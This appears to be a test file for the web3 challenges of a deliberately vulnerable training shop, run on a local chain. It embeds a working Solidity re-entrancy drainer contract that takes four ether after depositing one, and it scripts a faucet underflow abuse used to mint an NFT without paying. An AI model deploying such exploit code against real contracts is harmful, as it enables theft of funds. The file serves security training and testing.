import { abiCall, abiWord, type LocalChainInfo } from '@pulp/shared'
import request from 'supertest'
import { beforeAll, describe, expect, it } from 'vitest'
import { createTestShop, type TestShop } from '../../testing/test-app'
import { compileSolidity } from './chain/compile'

const BEE = 10n ** 18n
const ETHER = 10n ** 18n

/** A player's re-entrancy attacker: deposits, withdraws, and withdraws again from its receive function. */
const DRAINER_SOURCE = `// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;
interface IBank { function deposit() external payable; function withdraw(uint256 amount) external; }
contract Drainer {
    IBank private immutable bank;
    uint256 private stake;
    uint256 private rounds;
    constructor(IBank target) { bank = target; }
    function attack() external payable {
        stake = msg.value;
        bank.deposit{value: msg.value}();
        bank.withdraw(msg.value);
    }
    receive() external payable {
        if (rounds < 3) { rounds++; bank.withdraw(stake); }
    }
}`
let drainerBytecode = ''
let drainerSelectors: Record<string, string> = {}

beforeAll(() => {
  const { Drainer } = compileSolidity({ 'Drainer.sol': DRAINER_SOURCE })
  drainerBytecode = Drainer.bytecode
  drainerSelectors = Drainer.selectors
}, 60_000)

/** A shop with the local chain switched on, and JSON-RPC helpers on its endpoint. */
function chainShop() {
  const shop = createTestShop({ application: { web3: { localChain: true } } })
  const rpc = async (method: string, params: unknown[] = []) => {
    const response = await request(shop.app).post('/rest/web3/rpc').send({ jsonrpc: '2.0', id: 1, method, params })
    return response.body as { result?: unknown; error?: { code: number; message: string } }
  }
  const send = async (from: string, to: string | null, data: string, value = 0n) => {
    const { result: hash, error } = await rpc('eth_sendTransaction', [{ from, to, data, value: `0x${value.toString(16)}` }])
    if (error) throw new Error(error.message)
    return (await rpc('eth_getTransactionReceipt', [hash])).result as { status: string; contractAddress: string | null }
  }
  const read = async (to: string, data: string) => BigInt((await rpc('eth_call', [{ to, data }])).result as string)
  const info = async () => (await request(shop.app).get('/rest/web3/localChain')).body as LocalChainInfo
  return { ...shop, rpc, send, read, info }
}

const call = (contract: LocalChainInfo['contracts'][keyof LocalChainInfo['contracts']], signature: string, args: (bigint | string)[] = []) => ({
  to: contract.address,
  data: abiCall(contract.selectors[signature], args),
})

async function verifyMinter(shop: TestShop, walletAddress: string) {
  return request(shop.app).post('/rest/web3/walletNFTVerify').send({ walletAddress })
}

describe('nftMintChallenge (Mint the Honey Pot) on the local chain', () => {
  it('is solved by draining the faucet through its ration underflow, minting, and verifying the minter', async () => {
    const shop = chainShop()
    expect((await request(shop.app).get('/rest/web3/nftMintListen')).body).toEqual({ success: true, message: 'Event Listener Created' })
    const { accounts, contracts } = await shop.info()
    const player = accounts[1]
    const faucet = call(contracts.BeeToken, 'faucet(uint256)', [1000n * BEE])
    expect((await shop.send(player, faucet.to, faucet.data)).status).toBe('0x1')
    const balance = call(contracts.BeeToken, 'balanceOf(address)', [player])
    expect(await shop.read(balance.to, balance.data)).toBe(1000n * BEE)
    const approve = call(contracts.BeeToken, 'approve(address,uint256)', [contracts.HoneyPot.address, 1000n * BEE])
    expect((await shop.send(player, approve.to, approve.data)).status).toBe('0x1')
    const mint = call(contracts.HoneyPot, 'mint()')
    expect((await shop.send(player, mint.to, mint.data)).status).toBe('0x1')

    const verdict = await verifyMinter(shop, player)
    expect(verdict.status).toBe(200)
    expect(verdict.body).toMatchObject({ success: true, message: 'Challenge successfully solved', status: { key: 'nftMintChallenge', solved: true } })
    expect(shop.ctx.training.isSolved('nftMintChallenge')).toBe(true)
  })

  it('is not solved by an honest ration, which cannot pay for a pot, nor by a wallet that never minted', async () => {
    const shop = chainShop()
    await request(shop.app).get('/rest/web3/nftMintListen')
    const { accounts, contracts } = await shop.info()
    const player = accounts[2]
    const faucet = call(contracts.BeeToken, 'faucet(uint256)', [10n * BEE])
    expect((await shop.send(player, faucet.to, faucet.data)).status).toBe('0x1')
    const approve = call(contracts.BeeToken, 'approve(address,uint256)', [contracts.HoneyPot.address, 1000n * BEE])
    await shop.send(player, approve.to, approve.data)
    const mint = call(contracts.HoneyPot, 'mint()')
    expect((await shop.send(player, mint.to, mint.data)).status).toBe('0x0')

    expect((await verifyMinter(shop, player)).body).toMatchObject({ success: false, message: 'Wallet did not mint the NFT' })
    expect((await verifyMinter(shop, accounts[3])).body).toMatchObject({ success: false, status: { solved: false } })
    expect((await request(shop.app).post('/rest/web3/walletNFTVerify').send({ walletAddress: 'not an address' })).status).toBe(400)
    expect(shop.ctx.training.isSolved('nftMintChallenge')).toBe(false)
  })
})

describe('web3WalletChallenge (Wallet Depletion) on the local chain', () => {
  async function deployDrainer(shop: ReturnType<typeof chainShop>, from: string, bank: string) {
    const receipt = await shop.send(from, null, drainerBytecode + abiWord(bank))
    expect(receipt.status).toBe('0x1')
    return receipt.contractAddress as string
  }

  it('is solved by a re-entrancy contract that withdraws more than it deposited, for the registered wallet', async () => {
    const shop = chainShop()
    const { accounts, contracts } = await shop.info()
    const player = accounts[1]
    const registered = await request(shop.app).post('/rest/web3/walletExploitAddress').send({ walletAddress: player })
    expect(registered.body).toEqual({ success: true, message: 'Event Listener Created' })
    const bankBefore = BigInt((await shop.rpc('eth_getBalance', [contracts.EthWalletBank.address])).result as string)

    const drainer = await deployDrainer(shop, player, contracts.EthWalletBank.address)
    expect((await shop.send(player, drainer, abiCall(drainerSelectors['attack()']), ETHER)).status).toBe('0x1')

    const bankAfter = BigInt((await shop.rpc('eth_getBalance', [contracts.EthWalletBank.address])).result as string)
    expect(bankBefore - bankAfter).toBe(3n * ETHER) // deposited 1, took 4
    expect(shop.ctx.training.isSolved('web3WalletChallenge')).toBe(true)
  })

  it('is not solved by an honest deposit and withdrawal, nor by an exploit from a wallet nobody registered', async () => {
    const shop = chainShop()
    const { accounts, contracts } = await shop.info()
    const [player, stranger] = [accounts[1], accounts[4]]
    await request(shop.app).post('/rest/web3/walletExploitAddress').send({ walletAddress: player })
    const deposit = call(contracts.EthWalletBank, 'deposit()')
    expect((await shop.send(player, deposit.to, deposit.data, ETHER)).status).toBe('0x1')
    const withdraw = call(contracts.EthWalletBank, 'withdraw(uint256)', [ETHER])
    expect((await shop.send(player, withdraw.to, withdraw.data)).status).toBe('0x1')
    const drainer = await deployDrainer(shop, stranger, contracts.EthWalletBank.address)
    expect((await shop.send(stranger, drainer, abiCall(drainerSelectors['attack()']), ETHER)).status).toBe('0x1')
    expect(shop.ctx.training.isSolved('web3WalletChallenge')).toBe(false)
  })
})

describe('the local chain switched off (the default)', () => {
  it('answers the documented errors, naming the config key, and keeps both challenges unplayable', async () => {
    const shop = createTestShop()
    const listen = await request(shop.app).get('/rest/web3/nftMintListen')
    expect(listen.status).toBe(500)
    expect(listen.body).toMatch(/application\.web3\.localChain/)
    const exploit = await request(shop.app).post('/rest/web3/walletExploitAddress').send({ walletAddress: `0x${'ab'.repeat(20)}` })
    expect(exploit.status).toBe(500)
    const verify = await request(shop.app).post('/rest/web3/walletNFTVerify').send({ walletAddress: `0x${'ab'.repeat(20)}` })
    expect(verify.body).toMatchObject({ success: false, message: 'Wallet did not mint the NFT', status: { solved: false } })
    const rpc = await request(shop.app).post('/rest/web3/rpc').send({ jsonrpc: '2.0', id: 1, method: 'eth_chainId' })
    expect(rpc.status).toBe(503)
    expect((await request(shop.app).get('/rest/web3/localChain')).status).toBe(503)
    for (const key of ['nftMintChallenge', 'web3WalletChallenge']) {
      const { body } = await request(shop.app).get(`/api/Challenges/?key=${key}`)
      expect(body.data[0]).toMatchObject({ key, disabledEnv: 'Web3', solved: false })
    }
    expect(shop.ctx.training.isSolved('nftMintChallenge')).toBe(false)
  })

  it('makes both challenges playable when switched on', async () => {
    const shop = chainShop()
    for (const key of ['nftMintChallenge', 'web3WalletChallenge'] as const) expect(shop.ctx.training.isPlayable(key)).toBe(true)
  })
})
